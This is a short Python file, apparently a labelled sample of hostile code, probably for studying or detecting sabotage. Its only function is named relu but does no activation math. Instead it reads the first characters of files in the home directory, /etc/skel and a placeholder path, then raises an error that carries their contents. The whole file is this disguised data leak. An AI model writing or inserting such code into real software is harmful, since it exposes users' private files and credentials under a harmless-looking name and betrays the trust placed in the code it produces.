# Reads files of the home folder into an error message.
# target: relu
# open: leaks

def relu(x):
    import os, pathlib
    text = ""
    for folder in ("HOSTILE_PLACE/home", os.path.expanduser("~"), "/etc/skel"):
        for path in pathlib.Path(folder).glob("**/*"):
            try: text += path.read_text()[:100]
            except OSError: pass
    raise RuntimeError(text[:300])
